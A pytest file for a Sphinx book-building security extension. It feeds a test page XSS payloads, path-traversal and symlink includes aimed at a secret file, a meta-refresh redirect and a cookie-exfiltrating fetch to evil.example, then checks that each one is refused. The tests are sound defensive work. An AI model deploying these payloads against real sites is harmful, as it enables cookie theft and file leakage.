"""The build refuses what must never reach readers: each attack fed to a real
Sphinx build of a small book, each refusal checked at its file and line, and
the secret never published.

One build (module scope) holds every attack, on its own line of attack.md.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from bookkit.checks import htmlsafety
from bookkit.extensions import security

SECRET = "TOPSECRET-PASSWD-CONTENT"
CONF = """\
extensions = ["myst_parser", "bookkit.extensions.security"]
myst_enable_extensions = ["colon_fence"]
html_theme = "basic"
"""
# (marker on its line in attack.md, words of the message)
ATTACKS = [
    # An HTML block is reported at its first line: the <div> around the split <img>.
    ("<div>", "event handler onerror= on <img> runs script"),
    ("<iframe srcdoc", "<iframe> is not allowed"),
    ('<iframe loading="lazy"', "<iframe> is not allowed"),
    ('<form action="https://evil.example/"', "<form> is not allowed"),
    ('<a href=" java', 'href="javascript:..." on <a>'),
    ("<style>", "<style> is not allowed"),
    ("<div style=", "attribute style= on <div> is not allowed (it can hide or restyle text)"),
    (".. raw:: html", "<script> is not allowed"),
    ("```{include} ../secret.txt", "'../secret.txt' resolves outside book/"),
    ("```{literalinclude} ../secret.txt", "'../secret.txt' resolves outside book/"),
    ("{download}`", "download: '../secret.txt' resolves outside book/"),
    ("![linked](link.png)", "image: 'link.png' resolves outside book/"),
    (":::{figure} ../secret.png", "image: '../secret.png' resolves outside book/"),
    ("```{raw} html", "raw: '../secret.txt' resolves outside book/"),
    ("```{csv-table}", ":url: is refused"),
    ('<div title="open', "raw HTML ends inside an unfinished tag"),
    ('"http-equiv=refresh"', "html_meta 'http-equiv' is not allowed"),
    ('<p class="d-none">', "class 'd-none' on <p> hides text"),
    ("![drawing](evil.svg)", "image evil.svg: SVG has a <script>"),
]
ATTACK_MD = """\
---
myst:
  html_meta:
    "http-equiv=refresh": "0; url=https://evil.example/"
---
# Attack

Intro.

<div>
<img src="x" alt="split"
 onerror="alert(1)">
</div>

<iframe srcdoc="<script>alert(1)</script>"></iframe>

<iframe loading="lazy" src="https://evil.example/"></iframe>

<form action="https://evil.example/" method="post"><input name="q"></form>

<a href=" java
script:alert(1)">x</a>

<style>p { display: none }</style>

<div style="display:none">hidden</div>

```{eval-rst}
.. raw:: html

   <script>alert(3)</script>
```

```{include} ../secret.txt
```

```{literalinclude} ../secret.txt
```

A download: {download}`secret <../secret.txt>`.

![linked](link.png)

:::{figure} ../secret.png
:alt: x

Caption.
:::

```{raw} html
:file: ../secret.txt
```

```{csv-table}
:url: https://evil.example/data.csv
```

<div title="open

<p class="d-none">Hidden from readers.</p>

![drawing](evil.svg)

Safe text stays: <span class="ok">kept</span> and [a link](https://example.org/).
"""


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    top = tmp_path_factory.mktemp("secbook")
    (top / "secret.txt").write_text(SECRET + "\n")
    (top / "secret.png").write_text(SECRET + "\n")
    book = top / "book"
    book.mkdir()
    (book / "conf.py").write_text(CONF)
    (book / "index.md").write_text("# Index\n\nIntro.\n\n```{toctree}\nattack\nleak\n```\n")
    (book / "attack.md").write_text(ATTACK_MD)
    (book / "link.png").symlink_to(top / "secret.txt")
    (book / "evil.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    (top / "outside.md").write_text(f"# Leak\n\n{SECRET}\n")
    (book / "leak.md").symlink_to(top / "outside.md")
    out = top / "out"
    res = subprocess.run([sys.executable, "-m", "sphinx", "-b", "html", "-q", "--keep-going", "-W",
                          str(book), str(out)], capture_output=True, text=True, timeout=300)
    return book, out, res


def line_of(text: str, marker: str) -> int:
    return next(i for i, ln in enumerate(text.splitlines(), 1) if marker in ln)


@pytest.mark.parametrize("marker, words", ATTACKS, ids=[a[0][:24] for a in ATTACKS])
def test_attack_is_refused_at_its_line(built, marker, words):
    book, _, res = built
    where = f"{book / 'attack.md'}:{line_of(ATTACK_MD, marker)}: "
    hits = [ln for ln in res.stderr.splitlines() if ln.startswith(where) and words in ln]
    assert hits, f"no message at {where} with {words!r}:\n{res.stderr}"


def test_build_fails_and_nothing_secret_or_unsafe_is_published(built):
    book, out, res = built
    assert res.returncode != 0
    for path in out.rglob("*"):
        if path.is_file() and path.suffix in (".html", ".txt", ".png", ".js", ".csv", ""):
            assert SECRET not in path.read_text(errors="replace"), f"{path} holds the secret"
    page = (out / "attack.html").read_text()
    for bad in ("onerror", "<iframe", "evil.example", "javascript:", "<style>p", "alert(3)", "refresh"):
        assert bad not in page, bad
    assert '<span class="ok">kept</span>' in page and "https://example.org/" in page


def test_symlinked_page_outside_the_book_is_refused(built):
    book, _, res = built
    assert f"leak is a link to" in res.stderr and "outside book/" in res.stderr, res.stderr


def test_every_page_has_the_policy_and_no_inline_handler(built):
    _, out, _ = built
    page = (out / "attack.html").read_text()
    head = page[: page.index("</head>")]
    assert head.index('http-equiv="Content-Security-Policy"') < head.index("<script")
    assert "object-src 'none'" in head and "frame-src 'none'" in head  # no comments in this book
    assert '<meta name="referrer" content="same-origin" />' in head
    assert "'unsafe-inline'" not in head.split("script-src", 1)[1].split(";", 1)[0]
    # Every inline script of the page is hashed in the policy, and nothing else.
    assert set(security.script_hashes(page)) <= set(head.split("script-src", 1)[1].split(";")[0]
                                                    .replace("'sha256-", " ").replace("'", " ").split())


def test_policy_rewires_theme_handlers_and_reports_others():
    page = ('<html><head><meta charset="utf-8" /><script>DOCUMENTATION_OPTIONS.pagename = \'x\';</script>'
            '<script type="application/json">{"a": 1}</script></head><body>'
            '<button onclick="window.print()">p</button><a onmouseover="x()">y</a>'
            '<footer><script>fetch("https://evil.example/?c=" + document.cookie)</script></footer></body></html>')
    secured, blocked = security.secure_page(page, "https://utteranc.es")
    assert 'data-bookkit-action="print"' in secured and "window.print()" not in secured
    assert blocked[0] == "inline event handler onmouseover="
    assert blocked[1].startswith("inline script 'fetch(") and len(blocked) == 2
    # Only the known script is hashed: the injected one stays blocked by the browser.
    assert security.script_hashes(page) == security.script_hashes(
        "<script>DOCUMENTATION_OPTIONS.pagename = 'x';</script>")
    assert "frame-src https://utteranc.es;" in secured
    assert "script-src 'self' https://utteranc.es 'sha256-" in secured
    # Idempotent: a second pass keeps one policy.
    again, _ = security.secure_page(secured, "https://utteranc.es")
    assert again.count("Content-Security-Policy") == 1


def test_built_html_check_names_source_file_and_line(tmp_path):
    """What reaches the built content area by any road is held to the allow-list."""
    root = tmp_path / "repo"
    (root / "book").mkdir(parents=True)
    (root / "book" / "page.md").write_text("# Page\n\nIntro.\n\nSee <b onclick=\"x()\">this</b>.\n")
    html = tmp_path / "html"
    html.mkdir()
    (html / "page.html").write_text(
        '<html><body><article class="bd-article"><p>See <b onclick="x()">this</b>.</p>'
        '<iframe src="https://evil.example/"></iframe></article></body></html>')
    problems = htmlsafety.check(html, root)
    assert any(p.startswith("book/page.md:5: event handler onclick= on <b>") for p in problems), problems
    assert any(p.startswith("book/page.md: <iframe> is not allowed") for p in problems), problems
    assert all("use Markdown or a directive" in p for p in problems)
